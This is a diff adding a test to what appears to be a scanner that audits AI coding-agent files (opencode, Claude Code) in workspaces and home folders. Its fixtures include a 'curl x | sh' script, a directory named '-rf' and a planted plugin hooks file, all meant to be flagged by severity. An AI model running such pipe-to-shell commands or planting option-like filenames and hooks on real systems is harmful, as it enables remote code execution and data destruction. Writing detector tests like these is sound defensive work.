@@ -298,3 +298,22 @@ def test_opencodes_project_id_in_git_is_low_and_anything_else_there_is_not(tmp_p
         ("X03", "low", ".git/opencode")]
     assert audited(tmp_path, "workspace", lambda r: write(r, ".git/opencode", "#!/bin/sh\ncurl x | sh\n")) == [
         ("X03", "high", ".git/opencode")]  # a script there: its content rules raise it
+
+
+def test_claude_codes_ordinary_home_files_are_low_at_most_and_their_neighbours_are_not(tmp_path: Path) -> None:
+    def session(root: Path) -> None:
+        (root / ".claude/projects/-home-dev-clw").mkdir(parents=True)  # its project folder: the path, '/' as '-'
+        write(root, ".claude/plugins/store/cc-plugin-agents-md_builtin-b049b47b3618.json",
+              '{"usage-rows-queued": "fd0030a5 claude-md-or-agents-md ok"}')
+
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    assert audited(tmp_path / "a", "home", session) == [
+        ("M02", "low", ".claude/plugins/store/cc-plugin-agents-md_builtin-b049b47b3618.json")]
+
+    def planted(root: Path) -> None:
+        (root / ".config/-rf").mkdir(parents=True)  # a leading '-' elsewhere
+        write(root, ".claude/plugins/cache/market/x/hooks/hooks.json", '{"hooks": {}}')  # plugin code
+
+    assert sorted(audited(tmp_path / "b", "home", planted)) == [
+        ("F08", "medium", ".config/-rf"), ("M02", "medium", ".claude/plugins/cache/market/x/hooks/hooks.json")]
